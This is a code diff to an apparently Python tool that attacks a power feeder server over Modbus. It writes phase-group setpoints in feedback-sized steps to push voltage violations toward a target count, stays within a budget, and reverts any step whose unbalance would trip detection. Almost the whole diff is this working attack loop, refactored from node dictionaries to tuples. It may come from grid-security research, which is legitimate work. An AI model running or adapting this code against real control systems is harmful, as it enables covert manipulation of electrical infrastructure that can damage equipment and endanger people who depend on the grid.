@@ -2,8 +2,8 @@
 
 The engine drives the setpoint registers of a feeder server: each step it
 raises the overloaded phase group by a feedback-sized increment, lowers the
-other two groups, clamps every node to its multiplier bounds, then reads the
-meters back and recomputes violation count and unbalance locally (the
+other two groups, clamps every setpoint to its multiplier bounds, then reads
+the meters back and recomputes violation count and unbalance locally (the
 attacker trusts only what it can read).  The run stops on: target violation
 count reached, step budget exhausted, step cap, or a stealth breach (a step
 whose post-write unbalance reaches the detection threshold is reverted and
@@ -18,7 +18,7 @@ import json
 import logging
 import math
 from dataclasses import dataclass, field, fields
-from typing import Mapping
+from typing import Sequence
 
 from .modbus import parse_address
 from .modbus.client import ModbusClient
@@ -174,18 +174,6 @@ class AttackParams:
         return json.dumps(doc, indent=1)
 
 
-# An attack vector is a node -> MW mapping over the controllable nodes; the
-# phase grouping comes from the meter map's setpoint phases.
-AttackVector = dict
-
-
-def phase_groups(meter_map: MeterMap) -> dict[str, tuple[str, ...]]:
-    groups: dict[str, list[str]] = {p: [] for p in MODES}
-    for node, phase in meter_map.setpoints:
-        groups[phase].append(node)
-    return {p: tuple(nodes) for p, nodes in groups.items()}
-
-
 def step_size(v_vio: int, params: AttackParams, group: str = "A") -> float:
     """Feedback step size: full step at zero violations, shrinking linearly
     with the count, never below the configured floor."""
@@ -197,42 +185,42 @@ def step_size(v_vio: int, params: AttackParams, group: str = "A") -> float:
 
 
 def clamp(
-    vector: Mapping[str, float],
-    baselines_mw: Mapping[str, float],
+    vector_mw: Sequence[float],
+    baselines_mw: Sequence[float],
     params: AttackParams,
     violation_gain: int = 0,
-) -> AttackVector:
-    """Clip every node to [baseline * n_min, baseline * n_max]; idempotent."""
+) -> tuple[float, ...]:
+    """Clip every position of an attack vector (MW in setpoint order) to
+    [baseline * n_min, baseline * n_max]; idempotent."""
     n_max = params.n_max.evaluate(violation_gain)
-    out = {}
-    for node, value in vector.items():
-        base = baselines_mw[node]
-        out[node] = min(max(value, base * params.n_min), base * n_max)
-    return out
+    return tuple(
+        min(max(mw, base * params.n_min), base * n_max)
+        for mw, base in zip(vector_mw, baselines_mw, strict=True)
+    )
 
 
 def step(
-    prev: Mapping[str, float],
+    prev_mw: Sequence[float],
     observed_v_vio: int,
     params: AttackParams,
     mode: str,
-    groups: Mapping[str, tuple[str, ...]],
-    baselines_mw: Mapping[str, float],
+    phases: Sequence[str],
+    baselines_mw: Sequence[float],
     violation_gain: int = 0,
-) -> AttackVector:
-    """Next attack vector: hold when the target is met, otherwise push the
+) -> tuple[float, ...]:
+    """Next attack vector, MW in setpoint order with ``phases`` giving each
+    position's phase group: hold when the target is met, otherwise push the
     overloaded group up and the others down, then clamp."""
     if mode not in MODES:
         raise AttackError(f"unknown mode {mode!r}")
     if observed_v_vio >= params.n_tar:
-        return dict(prev)
-    out = {}
-    for group, nodes in groups.items():
-        gamma = step_size(observed_v_vio, params, group)
-        sign = 1.0 if group == mode else -1.0
-        for node in nodes:
-            out[node] = prev[node] + sign * gamma
-    return clamp(out, baselines_mw, params, violation_gain)
+        return tuple(prev_mw)
+    gamma = {group: step_size(observed_v_vio, params, group) for group in MODES}
+    out = (
+        mw + gamma[phase] if phase == mode else mw - gamma[phase]
+        for mw, phase in zip(prev_mw, phases, strict=True)
+    )
+    return clamp(tuple(out), baselines_mw, params, violation_gain)
 
 
 @dataclass
@@ -257,18 +245,18 @@ class AttackTrace:
     def budget_spent_mw(self) -> float:
         return self.steps[-1].budget_spent_mw if self.steps else 0.0
 
-    def write_csv(self, path, node_order):
+    def write_csv(self, path):
         with open(path, "w", newline="", encoding="utf-8") as fh:
             writer = csv.writer(fh)
             writer.writerow(
                 ["step"]
-                + list(node_order)
+                + list(self.baseline_mw)
                 + ["violations", "unbalance_pct", "budget_spent_mw", "status"]
             )
             for s in self.steps:
                 writer.writerow(
                     [s.t]
-                    + [f"{s.vector_mw[n]:.6f}" for n in node_order]
+                    + [f"{mw:.6f}" for mw in s.vector_mw.values()]
                     + [
                         s.violations,
                         f"{s.unbalance_pct:.6f}",
@@ -278,10 +266,9 @@ class AttackTrace:
                 )
 
 
-def _write(client: ModbusClient, meter_map: MeterMap, vector_mw: Mapping[str, float]):
-    """Write an attack vector, in whole kW, as the setpoint vector it names."""
-    kw = tuple(round(vector_mw[node] * 1000.0) for node, _ in meter_map.setpoints)
-    client.write_setpoints(meter_map, kw)
+def _write(client: ModbusClient, meter_map: MeterMap, vector_mw: Sequence[float]):
+    """Write an attack vector as the setpoint vector of whole kW it rounds to."""
+    client.write_setpoints(meter_map, tuple(round(mw * 1000.0) for mw in vector_mw))
 
 
 def _observe(client: ModbusClient, meter_map: MeterMap, band):
@@ -295,21 +282,28 @@ def run_attack(
     params: AttackParams,
     mode: str,
 ) -> AttackTrace:
-    """Run the adaptive loop against a live server; returns the full trace."""
+    """Run the adaptive loop against a live server; returns the full trace.
+
+    The baseline and every attack vector are tuples of MW in
+    ``meter_map.setpoints`` order, so several phases of one bus stay apart.
+    The trace holds them as ``{column: MW}`` dicts in that order, a column
+    being the setpoint's node, or ``node.phase`` where the node repeats.
+    """
     if mode not in MODES:
         raise AttackError(f"unknown mode {mode!r}")
-    groups = phase_groups(meter_map)
-    if not groups.get(mode):
+    phases = tuple(phase for _, phase in meter_map.setpoints)
+    if mode not in phases:
         raise AttackError(f"no controllable nodes on phase group {mode}")
+    nodes = [node for node, _ in meter_map.setpoints]
+    columns = [n if nodes.count(n) == 1 else f"{n}.{p}" for n, p in meter_map.setpoints]
 
     # A failure before the first observation leaves no baseline (-1, {}).
     trace = AttackTrace(mode=mode, baseline_mw={}, v_vio_init=-1)
     try:
-        baseline_kw = client.read_setpoints(meter_map)
-        baselines_mw = {n: kw / 1000.0 for (n, _), kw in zip(meter_map.setpoints, baseline_kw)}
+        baselines_mw = tuple(kw / 1000.0 for kw in client.read_setpoints(meter_map))
         v_vio, unbalance = _observe(client, meter_map, params.band)
-        trace.baseline_mw, trace.v_vio_init = dict(baselines_mw), v_vio
-        prev = dict(baselines_mw)
+        trace.baseline_mw, trace.v_vio_init = dict(zip(columns, baselines_mw)), v_vio
+        prev = baselines_mw
         spent = 0.0
         for t in range(1, params.max_steps + 1):
             if v_vio >= params.n_tar:
@@ -318,29 +312,28 @@ def run_attack(
                 trace.status = STATUS_TARGET if params.n_tar > 0 else STATUS_STEP_CAP
                 return trace
             candidate = step(
-                prev, v_vio, params, mode, groups, baselines_mw,
+                prev, v_vio, params, mode, phases, baselines_mw,
                 violation_gain=v_vio - trace.v_vio_init,
             )
             # Writing in whole kW is what the wire carries; account in the
             # same quantized units so the budget check matches the trace.
-            candidate = {n: round(mw * 1000.0) / 1000.0 for n, mw in candidate.items()}
-            step_total = sum(candidate.values())
+            candidate = tuple(round(mw * 1000.0) / 1000.0 for mw in candidate)
+            step_total = sum(candidate)
             if spent + step_total > params.av_max_mw:
                 trace.status = STATUS_BUDGET
                 return trace
             _write(client, meter_map, candidate)
             spent += step_total
             v_vio_new, unbalance = _observe(client, meter_map, params.band)
+            vector_mw = dict(zip(columns, candidate))
             if unbalance >= params.stealth_limit_pct:
                 _write(client, meter_map, prev)
                 trace.steps.append(
-                    AttackStep(t, dict(candidate), v_vio_new, unbalance, spent, kept=False)
+                    AttackStep(t, vector_mw, v_vio_new, unbalance, spent, kept=False)
                 )
                 trace.status = STATUS_STEALTH
                 return trace
-            trace.steps.append(
-                AttackStep(t, dict(candidate), v_vio_new, unbalance, spent, kept=True)
-            )
+            trace.steps.append(AttackStep(t, vector_mw, v_vio_new, unbalance, spent, kept=True))
             prev = candidate
             v_vio = v_vio_new
         trace.status = STATUS_STEP_CAP
@@ -393,9 +386,8 @@ def main(argv=None) -> int:
     with client:
         trace = run_attack(client, meter_map, params, args.mode)
 
-    node_order = [node for node, _ in meter_map.setpoints]
     if args.trace_out:
-        trace.write_csv(args.trace_out, node_order)
+        trace.write_csv(args.trace_out)
     last = trace.steps[-1] if trace.steps else None
     print(
         f"attack {args.mode}: status={trace.status} steps={len(trace.steps)} "
